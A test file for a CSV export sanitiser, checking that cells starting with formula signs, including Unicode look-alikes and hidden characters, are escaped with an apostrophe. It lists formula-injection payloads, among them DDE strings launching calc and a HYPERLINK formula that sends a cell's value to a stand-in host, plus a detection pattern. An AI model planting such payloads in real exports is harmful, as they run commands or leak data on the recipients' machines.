import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvSafe } from '../../../lib/export/csv-safe';
import { writeCsv } from '../../../lib/export/write-csv';

/** A sign that starts a formula, at the start of the text or of a line, behind nothing but blanks. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '\u0000',
  '\tx',
  '\rx',
  ' =1+1',
  '  +cmd',
  '\u00a0=1',
  '\u2007=1',
  '\u3000=1',
  '\ufeff=1',
  '\u200b=1',
  '\u2060@x',
  '\u00ad=1',
  '\u202e=1',
  '\u0001=1',
  '\u007f=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫x',
  '−1+1',
  '=1+1\nxin chào',
  'xin chào\n=1+1',
  'xin chào\r\n@x',
  'a\r+1',
  'a\n \t=1',
  'a\u2028=1',
  'a\u2029=1',
  'a\n\n\n-1',
  '"=1+1"',
  '"\n=1+1',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
  '=IMPORTXML("http://x.example","//a")',
  '=DDE("cmd";"/C calc";"1")',
  '=WEBSERVICE("http://x.example")',
  '=\n1',
  '=',
  '+',
  '-',
  '@',
  '-5',
  '+84912345678',
  '%0A=1'.replace('%0A', '\n'),
  '\v=1',
  '\f=1',
  '\u0085=1',
];
const dangerous = /(^|[\r\n\u2028\u2029\u0085])[\s\u0000-\u001F\u007F\u200B-\u200F\u202A-\u202E\u2060\u00AD"]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/;

test('there are more than forty', () => expect(new Set(payloads).size).toBeGreaterThan(40));

describe.each(payloads.map((payload) => [JSON.stringify(payload), payload]))('%s', (_, payload) => {
  test('is made safe, and only by apostrophes', () => {
    const safe = csvSafe(payload);
    expect(safe).not.toBe(payload);
    expect(safe).not.toMatch(dangerous);
    expect(safe).not.toMatch(/^[\t\r\u0000]/);
    expect(safe.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    expect(csvSafe(safe)).toBe(safe);
  });
  test('comes back from a file as that safe text', () => {
    for (const separator of [',', ';'] as const) {
      const { data } = Papa.parse<string[]>(writeCsv(['a', 'b'], [['x', payload]], { separator }).slice(1), {
        delimiter: separator,
        newline: '\r\n',
      });
      expect(data[1]).toEqual(['x', csvSafe(payload)]);
    }
  });
});

test.each([
  'Nguyễn Văn An',
  'Xã Xuân Du',
  '000.00.32.H56-230510-0041',
  '2023-06-14 17:00:00',
  '99,73%',
  '5.770',
  '',
  'a - b',
  'Chứng thực (bản sao)',
  'x = 1',
  'thuế; phí',
  'Đường số 3, tổ 2',
  'a\nb',
  "'x",
])('%s stays as it is', (text) => expect(csvSafe(text)).toBe(text));

test('what another separator would split off is no formula either', () => {
  expect(csvSafe('x;=1+1')).toBe("x;'=1+1");
  expect(csvSafe('x, @SUM(1)')).toBe("x, '@SUM(1)");
  expect(csvSafe("x;+cmd|'/C calc'!A0")).toBe("x;'+cmd|'/C calc'!A0");
  expect(csvSafe('nợ, -5 ngày')).toBe('nợ, -5 ngày');
});

test('numbers stay numbers', () => {
  expect(writeCsv(['a'], [[-5], [0], [5770], [99.73]], { separator: ',' })).toBe('\uFEFFa\r\n-5\r\n0\r\n5770\r\n99.73');
  expect(writeCsv(['a', 'b'], [[-5, 99.73]], { separator: ';' })).toBe('\uFEFFa;b\r\n-5;99,73');
});
